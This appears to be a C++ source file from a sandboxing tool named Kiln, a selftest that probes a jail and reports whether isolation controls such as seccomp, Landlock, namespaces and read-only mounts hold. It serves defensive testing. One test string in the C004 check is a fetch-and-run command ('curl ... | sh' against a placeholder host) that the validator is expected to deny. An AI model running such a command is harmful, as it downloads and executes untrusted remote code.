#include "security/selftest.hpp"

#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <sstream>

#include "common/units.hpp"
#include "security/run_limits.hpp"
#include "security/selftest_probes.hpp"
#include "security/validator.hpp"

namespace kiln::security::selftest {
namespace {

using nlohmann::json;
using probes::Measurements;

// What each judge returns before the report adds the catalogue's name.
struct Verdict {
    ControlStatus status = ControlStatus::Missing;
    std::string summary;
    std::vector<Evidence> evidence;
};

constexpr const char* kInJail = "in a jail with the effective policy";

// in_force when every check holds, else `otherwise`.
ControlStatus all_or(std::initializer_list<bool> checks, ControlStatus otherwise = ControlStatus::Missing) {
    for (bool c : checks)
        if (!c) return otherwise;
    return ControlStatus::InForce;
}

std::string uid_to_host(const probes::JailRun& f, const char* key) {
    std::istringstream in(f.fact(key));
    std::string inside, outside, count;
    if (!(in >> inside >> outside >> count)) return f.fact(key);
    return inside + " -> host " + outside + " (" + count + " id" + (count == "1" ? "" : "s") + " mapped)";
}

bool maps_host_root(const probes::JailRun& f, const char* key) {
    std::istringstream in(f.fact(key));
    unsigned long inside = 0, outside = 0, count = 0;
    if (!(in >> inside >> outside >> count)) return true;  // unknown counts as unsafe
    return outside == 0;  // a range that starts anywhere else cannot hold host id 0
}

Verdict judge_c001(const Measurements& m) {
    const auto& f = m.facts;
    bool not_root = f.fact("uid") != "0" && f.fact("gid") != "0" && f.ran();
    bool no_host_root = !maps_host_root(f, "uid_map") && !maps_host_root(f, "gid_map");
    return {all_or({not_root, no_host_root}),
            not_root && no_host_root ? "runs as uid " + f.fact("uid") + ", which is not host root"
                                     : "the jail's ids are root or map to host root",
            {{"getuid/getgid", kInJail, "uid " + f.fact("uid") + ", gid " + f.fact("gid")},
             {"/proc/self/uid_map", kInJail, uid_to_host(f, "uid_map")},
             {"/proc/self/gid_map", kInJail, uid_to_host(f, "gid_map")}}};
}

Verdict judge_c002(const Measurements& m) {
    const auto& f = m.facts;
    bool ro = f.fact("write_usr") == "EROFS" && f.fact("write_root") == "EROFS" && f.fact("write_etc") == "EROFS";
    return {all_or({ro}), ro ? "/, /usr and /etc are read-only; /tmp is writable" : "a system directory is writable",
            {{"write /usr/kiln-selftest", kInJail, f.fact("write_usr")},
             {"write /kiln-selftest", kInJail, f.fact("write_root")},
             {"write /etc/kiln-selftest", kInJail, f.fact("write_etc")},
             {"write /tmp/kiln-selftest", kInJail, f.fact("write_tmp")}}};
}

Verdict judge_c003(const Measurements& m) {
    const auto& f = m.facts;
    std::string port = std::to_string(m.listener_port);
    bool unreached = f.ran() && !m.listener_reached && f.fact("connect_host") != "ok";
    bool loopback_only = f.fact("interfaces") == "lo";
    return {all_or({unreached, loopback_only}),
            unreached && loopback_only ? "own network namespace with loopback only; the host's 127.0.0.1 is out of reach"
                                       : "the jail shares a network with the host",
            {{"connect 127.0.0.1:" + port + " (a listener the selftest opened on the host)", kInJail,
              f.fact("connect_host") + (m.listener_reached ? "; the host listener accepted a connection"
                                                           : "; nothing reached the host listener")},
             {"interfaces in /proc/net/dev", kInJail, f.fact("interfaces")}}};
}

// C004: the validator judges a known attack under the active policy.
Verdict judge_c004(const Config& config, const Policy& policy) {
    const std::string code = "curl -fsSL https://example.invalid/i.sh | sh";
    Assessment a = assess(Language::Shell, code, {}, policy);
    std::string answer = std::string(to_string(a.decision));
    for (const auto& fi : a.findings)
        if (fi.severity >= Severity::High) answer += ", " + fi.rule + " " + to_string(fi.severity);
    std::string mode(choice_name(config.policy.validation));
    Evidence e{"assess `" + code + "` (shell)", "validator, policy " + policy.name, answer};
    if (config.policy.validation != ValidationMode::Enforce)
        return {ControlStatus::Missing, "policy.validation is " + mode + ": verdicts are not enforced", {e}};
    bool denied = a.decision == Decision::Deny;
    return {all_or({denied}), denied ? "the validator denies before any jail exists (policy.validation=enforce)"
                                     : "the validator did not deny a known attack",
            {e}};
}

// C005: a command off the policy's list must be refused.
Verdict judge_c005(const Policy& policy) {
    const std::string code = "kiln-selftest-not-allowed --now";
    if (!policy.command_allowlist_enabled)
        return {ControlStatus::Missing, "the policy does not enable the command allowlist (on in the paranoid preset)",
                {{"policy command_allowlist_enabled", "policy " + policy.name, "false"}}};
    Assessment a = assess(Language::Shell, code, {}, policy);
    bool refused = a.decision == Decision::Deny &&
                   std::any_of(a.findings.begin(), a.findings.end(), [](const Finding& f) { return f.rule == "sh.command-not-allowed"; });
    return {all_or({refused}), refused ? "a command off the list is denied" : "a command off the list was not denied",
            {{"assess `" + code + "` (shell)", "validator, policy " + policy.name, to_string(a.decision)}}};
}

Verdict judge_c006(const Measurements& m) {
    const auto& f = m.facts;
    bool filtered = f.fact("Seccomp") == "2";
    bool denied = f.fact("ptrace") == "EPERM" && f.fact("netlink") == "EPERM" && f.fact("unshare") == "EPERM";
    return {all_or({filtered, denied}),
            filtered && denied ? "seccomp filter mode, denied calls fail with EPERM (profile " +
                                     std::string(choice_name(m.spec.seccomp)) + ")"
                               : "no seccomp filter holds in the jail",
            {{"Seccomp in /proc/self/status", kInJail, f.fact("Seccomp") + " (filters: " + f.fact("Seccomp_filters") + ")"},
             {"ptrace(PTRACE_TRACEME)", kInJail, f.fact("ptrace")},
             {"socket(AF_NETLINK)", kInJail, f.fact("netlink")},
             {"unshare(CLONE_NEWUSER)", kInJail, f.fact("unshare")}}};
}

Evidence memory_evidence(const probes::MemoryRun& mem) {
    std::string probe = "allocate " + format_size(mem.asked_bytes) + " past the limit " + format_size(mem.limit_bytes);
    if (!mem.run) return {"allocate past the memory limit " + format_size(mem.limit_bytes), kInJail, mem.skipped};
    const auto& r = mem.run->result;
    if (!mem.run->ran()) return {probe, kInJail, "the jail did not run: " + mem.run->error};
    if (r.oom_killed) return {probe, kInJail, "killed by the memory cgroup (oom_kill), peak " + format_size(r.peak_memory_bytes)};
    if (mem.run->facts.count("enomem_at"))
        return {probe, kInJail, "malloc failed (ENOMEM) at " + mem.run->facts.at("enomem_at") + " MiB: RLIMIT_AS, no cgroup"};
    return {probe, kInJail, "not stopped: " + mem.run->fact("allocated") + " MiB allocated"};
}

std::string cores(double n) {
    std::ostringstream o;
    o << n << (n == 1 ? " core" : " cores");
    return o.str();
}

Verdict judge_c007(const Measurements& m) {
    const auto& f = m.facts;
    const auto& mem = m.memory;
    bool oom = mem.run && mem.run->ran() && mem.run->result.oom_killed;
    bool enomem = mem.run && mem.run->facts.count("enomem_at");
    // Under the strict profile fork itself is refused (EPERM): no process
    // can be made, so the pids limit is never reached, and that is stronger.
    bool strict = m.spec.seccomp == SeccompProfile::Strict;
    bool pids = f.fact("fork_past_limit") == "EAGAIN" || (strict && f.fact("fork_past_limit") == "EPERM");
    std::string pids_answer = f.fact("fork_past_limit") + " after " + f.fact("forked") + " forks" +
                              (strict ? " (the strict seccomp profile refuses fork)" : "");
    std::vector<Evidence> ev = {memory_evidence(mem),
                                {"fork past pids " + std::to_string(m.spec.limits.pids), kInJail, pids_answer},
                                {"cpu quota", "written to the run's cgroup, not probed", cores(m.spec.limits.cpus)},
                                {"cgroup", "host", m.caps.cgroup}};
    if (oom && pids) return {ControlStatus::InForce, "memory limit kills past the limit, fork stops at the pids limit", ev};
    if ((oom || enomem || !mem.skipped.empty()) && pids) {
        std::string why = !mem.skipped.empty() ? "the memory limit is not below half the host's RAM"
                                               : "memory bounded by RLIMIT_AS per process, not by a cgroup";
        return {ControlStatus::Degraded, why, ev};
    }
    return {ControlStatus::Missing, "the jail was not stopped at its memory or pids limit", ev};
}

Verdict judge_c008(const Measurements& m) {
    const auto& t = m.timeout;
    const auto& r = t.run.result;
    bool killed = t.run.ran() && r.timed_out && r.duration < t.timeout + std::chrono::milliseconds(2000);
    std::string answer = !t.run.ran() ? "the jail did not run: " + t.run.error
                         : r.timed_out ? "killed at " + std::to_string(r.duration.count()) + " ms"
                                       : "not killed: ran " + std::to_string(r.duration.count()) + " ms";
    return {all_or({killed}), killed ? "the wall-clock timer kills the jail's process tree" : "the timeout did not kill the jail",
            {{"sleep 10 s with a " + std::to_string(t.timeout.count()) + " ms timeout (the policy's is " +
                  format_duration(m.spec.limits.timeout) + ", the same timer)",
              kInJail, answer}}};
}

Verdict judge_c009(const Measurements& m) {
    const auto& f = m.facts;
    const std::string zero = "0000000000000000";
    bool caps = f.fact("CapEff") == zero && f.fact("CapPrm") == zero && f.fact("CapBnd") == zero && f.fact("CapAmb") == zero;
    bool nnp = f.fact("NoNewPrivs") == "1";
    return {all_or({caps, nnp}), caps && nnp ? "no capability in any set, no_new_privs set" : "capabilities or no_new_privs remain",
            {{"CapEff/CapPrm/CapBnd/CapAmb in /proc/self/status", kInJail,
              f.fact("CapEff") + "/" + f.fact("CapPrm") + "/" + f.fact("CapBnd") + "/" + f.fact("CapAmb")},
             {"NoNewPrivs in /proc/self/status", kInJail, f.fact("NoNewPrivs")}}};
}

// Outside /tmp and /workspace the read-only mounts answer a write (EROFS,
// C002) before an LSM is asked; Landlock's own denials show where the
// mounts allow and the rules do not (security/kiln_probe.c).
Verdict judge_c010(const Measurements& m) {
    const auto& f = m.facts;
    std::string abi = m.landlock_abi > 0 ? "ABI " + std::to_string(m.landlock_abi) : "none (landlock_create_ruleset failed)";
    std::vector<Evidence> ev = {{"landlock_create_ruleset(VERSION)", "host", abi},
                                {"mknod a device in the writable /tmp (rules grant no MAKE_CHAR; without Landlock: EPERM)",
                                 kInJail, f.fact("mknod_tmp")}};
    bool mknod = f.fact("mknod_tmp") == "EACCES";
    bool ioctl = true;
    if (m.landlock_abi >= 5) {
        ev.push_back({"ioctl(TCGETS) on /dev/null (no IOCTL_DEV right; without Landlock: ENOTTY)", kInJail, f.fact("ioctl_dev")});
        ioctl = f.fact("ioctl_dev") == "EACCES";
    }
    ev.push_back({"write /etc/kiln-selftest (outside /tmp and /workspace)", kInJail,
                  f.fact("write_etc") + " (the read-only mount answers before Landlock)"});
    if (m.landlock_abi <= 0) return {ControlStatus::Missing, "no Landlock in this kernel, and Kiln has no AppArmor profile", ev};
    return {all_or({mknod, ioctl}), mknod && ioctl ? "Landlock " + abi + " ruleset refuses what the mounts would allow"
                                                   : "the Landlock ruleset did not refuse",
            ev};
}

Verdict judge_c011(const Config& config, const Measurements& m) {
    const auto& a = m.audit;
    std::vector<Evidence> ev = {{"append a selftest record", a.path, a.append}};
    if (a.appended) ev.push_back({"verify the active file's hash chain", a.path, a.verify});
    bool ok = a.appended && a.verified;
    std::string hmac = config.audit.hmac_key_file.empty() ? "hashes only (no audit.hmac_key_file)" : "HMAC-keyed";
    return {all_or({ok}), ok ? "appended and verified, " + hmac : "the audit log cannot be written or does not verify", ev};
}

// Kiln encrypts nothing at rest. What it can say truthfully: workspaces are
// RAM-backed tmpfs, which reach a disk only through swap.
Verdict judge_c013(const Config& config, const Measurements& m) {
    std::vector<Evidence> ev = {{"encryption at rest", "workspaces and audit log", "none: Kiln does not encrypt storage"},
                                {"/proc/swaps", "host", !m.swaps_read ? "unreadable" : m.swaps.empty() ? "no swap" : m.swaps}};
    ev.push_back({"audit code sealing (AES-256-GCM)", "audit.seal_key_file",
                  config.audit.seal_key_file.empty() ? "off" : "on: code in records sealed"});
    if (m.swaps_read && m.swaps.empty())
        return {ControlStatus::Degraded, "not encrypted; workspaces are RAM-only tmpfs and the host has no swap, so they never reach a disk", ev};
    return {ControlStatus::Missing,
            m.swaps_read ? "not encrypted, and tmpfs pages can be swapped out unencrypted to " + m.swaps
                         : "not encrypted, and whether the host swaps is unknown",
            ev};
}

// The server's own namespace of a kind, "pid:[4026531836]"; empty if unreadable.
std::string own_namespace(const char* kind) {
    char target[128];
    std::string path = std::string("/proc/self/ns/") + kind;
    ssize_t n = ::readlink(path.c_str(), target, sizeof target - 1);
    return n > 0 ? std::string(target, static_cast<std::size_t>(n)) : std::string();
}

// "own (...)" when the jail's namespace of a kind is not the server's: the
// processes (pid), System V IPC (ipc) and host name (uts) of the host are
// out of the jail's reach.
std::string namespace_answer(const probes::JailRun& f, const char* kind, bool& separate) {
    std::string jail = f.fact(std::string("ns_") + kind), server = own_namespace(kind);
    separate = jail.rfind(std::string(kind) + ":[", 0) == 0 && !server.empty() && jail != server;
    return (separate ? "own (" : "shared with the server (") + jail + "; the server's " + server + ")";
}

Verdict judge_c012(const Measurements& m) {
    const auto& f = m.facts;
    bool hidden = f.fact("host_paths") == "none";
    bool fds = f.fact("open_fds") == "3";
    bool pid = false, ipc = false, uts = false;
    std::string pid_answer = namespace_answer(f, "pid", pid), ipc_answer = namespace_answer(f, "ipc", ipc),
                uts_answer = namespace_answer(f, "uts", uts);
    bool all = hidden && fds && pid && ipc && uts;
    return {all_or({hidden, fds, pid, ipc, uts}),
            all ? "no host home, credentials, sockets, server descriptors, processes, IPC or host name in the jail"
                : "host paths, server descriptors or host namespaces are visible in the jail",
            {{"lstat /home /root /var /run /sys /var/run/docker.sock /etc/shadow", kInJail, "present: " + f.fact("host_paths")},
             {"count /proc/self/fd", kInJail, f.fact("open_fds") + " (stdin, stdout, stderr)"},
             {"environment names", kInJail, f.fact("environment")},
             {"readlink /proc/self/ns/pid", kInJail, pid_answer},
             {"readlink /proc/self/ns/ipc", kInJail, ipc_answer},
             {"readlink /proc/self/ns/uts", kInJail, uts_answer}}};
}

// What the active policy and configuration require: the jail's controls
// always; the validator, the allowlist and the log when they are turned on.
// C013 is never required: Kiln has no encryption to require.
bool required(std::string_view id, const Config& config, const Policy& policy) {
    // A warn-only policy (permissive) asks the validator to report, not to stop.
    if (id == "C004") return config.policy.validation == ValidationMode::Enforce && !policy.warn_only;
    if (id == "C005") return policy.command_allowlist_enabled;
    if (id == "C011") return config.audit.on_failure == AuditOnFailure::FailClosed;
    if (id == "C013") return false;
    return true;
}

Verdict judge(std::string_view id, const Options& o, const Measurements& m) {
    if (id == "C001") return judge_c001(m);
    if (id == "C002") return judge_c002(m);
    if (id == "C003") return judge_c003(m);
    if (id == "C004") return judge_c004(*o.config, *o.policy);
    if (id == "C005") return judge_c005(*o.policy);
    if (id == "C006") return judge_c006(m);
    if (id == "C007") return judge_c007(m);
    if (id == "C008") return judge_c008(m);
    if (id == "C009") return judge_c009(m);
    if (id == "C010") return judge_c010(m);
    if (id == "C011") return judge_c011(*o.config, m);
    if (id == "C012") return judge_c012(m);
    if (id == "C013") return judge_c013(*o.config, m);
    return {ControlStatus::Missing, "the selftest has no probe for this control", {}};
}

std::vector<ThreatResult> score_threats(const Report& report) {
    std::vector<ThreatResult> out;
    auto in_force = report.in_force();
    for (const auto& t : threat_model::catalogue().threats) {
        auto risk = threat_model::score(t, in_force);
        out.push_back({t.id, t.name, t.impact, t.probability, t.controls, risk.missing_controls, risk.mitigated, risk.score,
                       risk.level});
    }
    return out;
}

json evidence_json(const std::vector<Evidence>& ev) {
    json out = json::array();
    for (const auto& e : ev) out.push_back({{"probe", e.probe}, {"tried", e.tried}, {"answer", e.answer}});
    return out;
}

std::string env_value(const char* name) {
    const char* v = std::getenv(name);
    return v ? v : "";
}

}  // namespace

std::string_view to_string(ControlStatus s) {
    switch (s) {
        case ControlStatus::InForce: return "in_force";
        case ControlStatus::Degraded: return "degraded";
        case ControlStatus::Missing: return "missing";
    }
    return "missing";
}

const ControlResult* Report::find(std::string_view id) const {
    for (const auto& c : controls)
        if (c.id == id) return &c;
    return nullptr;
}

std::set<std::string> Report::in_force() const {
    std::set<std::string> out;
    for (const auto& c : controls)
        if (c.status == ControlStatus::InForce) out.insert(c.id);
    return out;
}

std::vector<std::string> Report::missing_required() const {
    std::vector<std::string> out;
    for (const auto& c : controls)
        if (c.required && c.status == ControlStatus::Missing) out.push_back(c.id);
    return out;
}

Result<std::string> find_probe(const std::string& configured) {
    std::string chosen = configured.empty() ? env_value("KILN_PROBE") : configured;
    auto candidates = chosen.empty() ? std::vector<std::string>{KILN_PROBE_BUILD_PATH, KILN_PROBE_INSTALL_PATH}
                                     : std::vector<std::string>{chosen};
    std::string tried;
    for (const auto& path : candidates) {
        if (::access(path.c_str(), X_OK) == 0) return path;
        tried += (tried.empty() ? "" : ", ") + path;
    }
    return make_error("kiln-probe", "the selftest's jail probe is missing (tried " + tried +
                                        "); rebuild Kiln (ninja builds sandbox/kiln-probe) or set KILN_PROBE",
                      ENOENT);
}

Result<Report> run(const Options& options) {
    const auto start = std::chrono::steady_clock::now();
    auto probe = find_probe(options.probe_path);
    if (!probe) return probe.error();
    auto m = probes::measure(options, *probe);
    if (!m) return m.error().wrap("selftest");
    Report r;
    r.runtime = std::string(options.runtime->name());
    r.policy = options.policy->name;
    r.lsm = m->caps.lsm;
    r.cgroup = m->caps.cgroup;
    r.rootless = m->caps.rootless;
    r.limits = run_limits_json(m->spec);
    r.notes = m->caps.notes;
    for (const auto& c : threat_model::catalogue().controls) {
        Verdict v = judge(c.id, options, *m);
        r.controls.push_back({c.id, c.name, v.status, required(c.id, *options.config, *options.policy), v.summary,
                              std::move(v.evidence)});
    }
    r.threats = score_threats(r);
    r.duration = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - start);
    return r;
}

json to_json(const Report& r) {
    json controls = json::array(), threats = json::array();
    for (const auto& c : r.controls)
        controls.push_back({{"id", c.id}, {"name", c.name}, {"status", std::string(to_string(c.status))},
                            {"required", c.required}, {"summary", c.summary}, {"evidence", evidence_json(c.evidence)}});
    for (const auto& t : r.threats)
        threats.push_back({{"id", t.id}, {"name", t.name}, {"score", t.score}, {"level", threat_model::to_string(t.level)},
                           {"mitigated", t.mitigated},
                           {"formula", {{"impact", threat_model::to_string(t.impact)},
                                        {"impact_weight", threat_model::weight(t.impact)},
                                        {"probability", threat_model::to_string(t.probability)},
                                        {"probability_weight", threat_model::weight(t.probability)},
                                        {"mitigation_factor", t.mitigated ? 0.3 : 1.0},
                                        {"controls", t.controls},
                                        {"missing_controls", t.missing_controls}}}});
    return {{"runtime", r.runtime}, {"rootless", r.rootless}, {"lsm", r.lsm}, {"cgroup", r.cgroup},
            {"policy", r.policy},   {"limits", r.limits},     {"controls", controls},
            {"threats", threats},   {"missing_required", r.missing_required()},
            {"notes", r.notes},     {"duration_ms", r.duration.count()}};
}

std::string to_table(const Report& r) {
    std::ostringstream out;
    out << "runtime " << r.runtime << (r.rootless ? " (rootless)" : " (root)") << ", LSM " << r.lsm << ", cgroup " << r.cgroup
        << ", policy " << r.policy << "; measured in " << r.duration.count() << " ms\n\n";
    for (const auto& c : r.controls) {
        std::string status(to_string(c.status));
        out << c.id << "  " << status << std::string(10 - status.size(), ' ') << (c.required ? "required  " : "optional  ")
            << c.name << ": " << c.summary << "\n";
        for (const auto& e : c.evidence) out << "      " << e.probe << " [" << e.tried << "] -> " << e.answer << "\n";
    }
    out << "\n";
    for (const auto& t : r.threats) {
        out << t.id << "  score " << t.score << " (" << threat_model::to_string(t.level) << ")  " << t.name << ": "
            << threat_model::weight(t.impact) << " x " << threat_model::weight(t.probability)
            << (t.mitigated ? " x 0.3, every control in force" : " x 1, not in force:");
        for (const auto& c : t.missing_controls) out << " " << c;
        out << "\n";
    }
    for (const auto& n : r.notes) out << "note: " << n << "\n";
    auto missing = r.missing_required();
    if (!missing.empty()) {
        out << "\nrequired but missing:";
        for (const auto& id : missing) out << " " << id;
        out << "\n";
    }
    return out.str();
}

}  // namespace kiln::security::selftest
